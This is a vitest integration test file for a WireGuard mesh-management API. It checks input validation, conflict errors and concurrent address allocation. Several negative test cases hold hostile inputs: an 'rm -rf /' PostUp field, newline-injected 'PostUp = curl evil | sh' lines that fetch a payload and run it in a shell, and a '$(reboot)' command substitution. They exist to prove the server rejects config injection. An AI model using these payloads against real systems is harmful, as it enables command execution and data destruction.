import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { nodes } from "../../../../src/db/index.js";
import { generateKeyPair } from "../../../../src/mesh/index.js";
import { json } from "../../../support/http.js";
import { createNetwork, createNode } from "../../../support/mesh.js";
import type { TestPlatform } from "../../../support/platform.js";
import { createTestPlatform } from "../../../support/platform.js";

describe("mesh input errors", () => {
  let t: TestPlatform;
  beforeAll(async () => {
    t = await createTestPlatform();
  });
  afterAll(async () => {
    await t.close();
  });

  const nodeCount = async (networkId: string) =>
    (await json(await t.request(`/api/v1/nodes?networkId=${networkId}`))).data.total;

  it("refuses overlapping networks with 409, in the database itself", async () => {
    await createNetwork(t, { cidr4: "10.40.0.0/16", cidr6: "fd00:40::/48" });
    for (const body of [
      { name: "inner", cidr4: "10.40.3.0/24" },
      { name: "outer", cidr4: "10.0.0.0/8" },
      { name: "v6", cidr4: "10.41.0.0/24", cidr6: "fd00:40:0:1::/64" },
    ]) {
      const res = await t.request("/api/v1/networks", { method: "POST", body });
      const payload = await json(res);
      expect(res.status, `${body.name}: ${JSON.stringify(payload)}`).toBe(409);
      expect(payload.code).toBe("NETWORK_OVERLAP");
    }
    const all = await json(await t.request("/api/v1/networks"));
    expect(all.data.map((n: { name: string }) => n.name)).not.toContain("inner");
  });

  it("refuses a taken network name with 409", async () => {
    const net = await createNetwork(t);
    const res = await t.request("/api/v1/networks", {
      method: "POST",
      body: { name: net.name, cidr4: "10.42.0.0/24" },
    });
    expect((await json(res)).code).toBe("NETWORK_NAME_TAKEN");
  });

  it.each([
    ["host bits set", { cidr4: "10.43.0.1/24" }, /host bits set/],
    ["an IPv6 range as cidr4", { cidr4: "fd00::/64" }, /IPv4/],
    ["a bad endpoint", { cidr4: "10.43.0.0/24", endpoint: "vpn.example.com" }, /host:port/],
    [
      "a dotted number that is no address",
      { cidr4: "10.43.0.0/24", endpoint: "999.1.1.1:51820" },
      /host:port/,
    ],
    ["a trailing dot", { cidr4: "10.43.0.0/24", endpoint: "vpn.example.com.:51820" }, /host:port/],
    ["a bad DNS entry", { cidr4: "10.43.0.0/24", dns: ["10.0.0.1/24"] }, /search domain/],
    ["an unknown field", { cidr4: "10.43.0.0/24", postUp: "rm -rf /" }, /postUp|unrecognized/i],
  ])("refuses a network with %s with 400", async (_name, body, message) => {
    const res = await t.request("/api/v1/networks", { method: "POST", body: { name: "bad-net", ...body } });
    const payload = await json(res);
    expect(res.status).toBe(400);
    expect(JSON.stringify(payload.error)).toMatch(message);
  });

  it.each([
    ["43 characters", "UdSYczhkS/SMF9ZhroEyH2gpwSo/OjXtXJl/iEQiqAU"],
    ["a non-canonical last character", "UdSYczhkS/SMF9ZhroEyH2gpwSo/OjXtXJl/iEQiqAV="],
    ["characters that are not base64", "UdSYczhkS/SMF9ZhroEyH2gpwSo/OjXtXJl/iEQi!AU="],
  ])("refuses a public key of %s with 400", async (_name, publicKey) => {
    const net = await createNetwork(t);
    const res = await t.request("/api/v1/nodes", {
      method: "POST",
      body: { networkId: net.id, name: "k", publicKey },
    });
    expect(res.status).toBe(400);
    expect((await json(res)).error.message).toMatch(/^publicKey: must be a WireGuard key/);
    expect(await nodeCount(net.id)).toBe(0);
  });

  it("refuses a public key already in the network with 409, and the hub's own key", async () => {
    const net = await createNetwork(t);
    const { publicKey } = generateKeyPair();
    await createNode(t, net.id, { publicKey });
    for (const key of [publicKey, net.hubPublicKey]) {
      const res = await t.request("/api/v1/nodes", {
        method: "POST",
        body: { networkId: net.id, name: "dup", publicKey: key },
      });
      expect(res.status).toBe(409);
      expect((await json(res)).code).toBe("PUBLIC_KEY_TAKEN");
    }
    expect(await nodeCount(net.id)).toBe(1);
  });

  it.each([
    ["a newline in the name", { name: "box\nPostUp = curl evil | sh" }],
    ["a section header in the name", { name: "[Interface]" }],
    ["'=' in the name", { name: "a = b" }],
    ["a newline in the email", { email: "a@example.com\nPostUp = x" }],
    ["brackets in the email", { email: "[Peer]@example.com" }],
    ["a newline in the endpoint", { endpoint: "1.2.3.4:51820\nPostUp = x" }],
    ["a command in the endpoint", { endpoint: "$(reboot):51820" }],
    ["a section in extra allowed IPs", { extraAllowedIps: ["10.0.0.0/24\n[Interface]"] }],
    ["a tag with a newline", { tags: ["ok", "bad\nPostDown = x"] }],
  ])("refuses %s with 400 and changes nothing", async (_name, extra) => {
    const net = await createNetwork(t);
    const victim = await createNode(t, net.id);
    const before = await (await t.request(`/api/v1/nodes/${victim.node.id}/config`)).text();
    const create = await t.request("/api/v1/nodes", {
      method: "POST",
      body: { networkId: net.id, name: "ok-name", ...extra },
    });
    expect(create.status).toBe(400);
    const patch = await t.request(`/api/v1/nodes/${victim.node.id}`, { method: "PATCH", body: extra });
    expect(patch.status).toBe(400);
    expect(await nodeCount(net.id)).toBe(1);
    expect(await (await t.request(`/api/v1/nodes/${victim.node.id}/config`)).text()).toBe(before);
  });

  it("refuses a route that another node, or the network itself, already has with 409", async () => {
    const net = await createNetwork(t, { cidr4: "10.52.0.0/24" });
    const owner = await createNode(t, net.id, { extraAllowedIps: ["192.168.80.0/24"] });
    for (const route of ["192.168.80.0/25", "192.168.0.0/16", "10.52.0.7/32"]) {
      const res = await t.request("/api/v1/nodes", {
        method: "POST",
        body: { networkId: net.id, name: "thief", extraAllowedIps: [route] },
      });
      expect(res.status, route).toBe(409);
      expect((await json(res)).code).toBe("ROUTE_TAKEN");
    }
    const other = await createNode(t, net.id);
    const patch = await t.request(`/api/v1/nodes/${other.node.id}`, {
      method: "PATCH",
      body: { extraAllowedIps: ["192.168.80.128/25"] },
    });
    expect(patch.status).toBe(409);
    // A node may keep (re-send) its own routes.
    const keep = await t.request(`/api/v1/nodes/${owner.node.id}`, {
      method: "PATCH",
      body: { extraAllowedIps: ["192.168.80.0/24", "192.168.81.0/24"] },
    });
    expect(keep.status).toBe(200);
    expect(await nodeCount(net.id)).toBe(2);
  });

  it("gives 50 concurrent enrollments 50 distinct addresses", async () => {
    const net = await createNetwork(t, { cidr4: "10.50.0.0/24", cidr6: "fd00:50::/64" });
    const results = await Promise.all(
      Array.from({ length: 50 }, (_, i) =>
        t.request("/api/v1/nodes", { method: "POST", body: { networkId: net.id, name: `c${i}` } }).then(json),
      ),
    );
    const ip4s = results.map((r) => r.data?.node.ip4);
    const ip6s = results.map((r) => r.data?.node.ip6);
    expect(ip4s.every(Boolean)).toBe(true);
    expect(new Set(ip4s).size).toBe(50);
    expect(new Set(ip6s).size).toBe(50);
    expect(ip4s).not.toContain("10.50.0.1");
  });

  it("allocates again when a write it could not see takes the same address first", async () => {
    const net = await createNetwork(t, { cidr4: "10.152.0.0/24" });
    const first = await createNode(t, net.id); // 10.152.0.2
    const { db } = t.platform.database;
    // Another writer moves that node onto 10.152.0.3 in an open transaction (an update that takes no
    // lock on the network). The enrollment cannot see it, picks .3 as well and waits on the unique
    // index until the move commits, then allocates again.
    let commit!: () => void;
    const held = new Promise<void>((resolve) => {
      commit = resolve;
    });
    let moved!: () => void;
    const ready = new Promise<void>((resolve) => {
      moved = resolve;
    });
    const other = db.transaction(async (tx) => {
      await tx.update(nodes).set({ ip4: "10.152.0.3" }).where(eq(nodes.id, first.node.id));
      moved();
      await held;
    });
    await ready;
    const enrolling = t.request("/api/v1/nodes", {
      method: "POST",
      body: { networkId: net.id, name: "mine" },
    });
    await vi.waitFor(
      async () => {
        const rows = (await db.execute(
          sql`select 1 from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'`,
        )) as unknown as unknown[];
        expect(rows.length).toBeGreaterThan(0);
      },
      { timeout: 10_000, interval: 20 },
    );
    commit();
    await other;
    const res = await enrolling;
    expect(res.status).toBe(201);
    expect((await json(res)).data.node.ip4).toBe("10.152.0.2");
  });

  it("admits exactly the capacity of a /29 when enrolled past it concurrently", async () => {
    const net = await createNetwork(t, { cidr4: "10.51.0.0/29" });
    const statuses = await Promise.all(
      Array.from({ length: 12 }, async (_, i) => {
        const res = await t.request("/api/v1/nodes", {
          method: "POST",
          body: { networkId: net.id, name: `cap${i}` },
        });
        return { status: res.status, body: await json(res) };
      }),
    );
    const created = statuses.filter((s) => s.status === 201);
    const refused = statuses.filter((s) => s.status === 409);
    expect(created).toHaveLength(5);
    expect(refused).toHaveLength(7);
    expect(refused.every((r) => r.body.code === "ADDRESS_POOL_EXHAUSTED")).toBe(true);
    const ips = created.map((c) => c.body.data.node.ip4).sort();
    expect(ips).toEqual(["10.51.0.2", "10.51.0.3", "10.51.0.4", "10.51.0.5", "10.51.0.6"]);
  });

  it("needs force to delete a network with nodes", async () => {
    const net = await createNetwork(t);
    await createNode(t, net.id);
    const refused = await t.request(`/api/v1/networks/${net.id}`, { method: "DELETE" });
    expect(refused.status).toBe(409);
    expect((await json(refused)).code).toBe("NETWORK_HAS_NODES");
    expect((await t.request(`/api/v1/networks/${net.id}?force=true`, { method: "DELETE" })).status).toBe(200);
    expect((await t.request(`/api/v1/networks/${net.id}`)).status).toBe(404);
  });

  it("answers 404 for unknown networks and nodes, 400 for ids that are not UUIDs", async () => {
    const unknown = "00000000-0000-4000-8000-000000000000";
    expect((await json(await t.request(`/api/v1/nodes/${unknown}`))).code).toBe("NODE_NOT_FOUND");
    expect((await json(await t.request(`/api/v1/networks/${unknown}`))).code).toBe("NETWORK_NOT_FOUND");
    const res = await t.request("/api/v1/nodes", { method: "POST", body: { networkId: unknown, name: "x" } });
    expect(res.status).toBe(404);
    expect((await t.request("/api/v1/nodes/not-a-uuid")).status).toBe(400);
  });
});
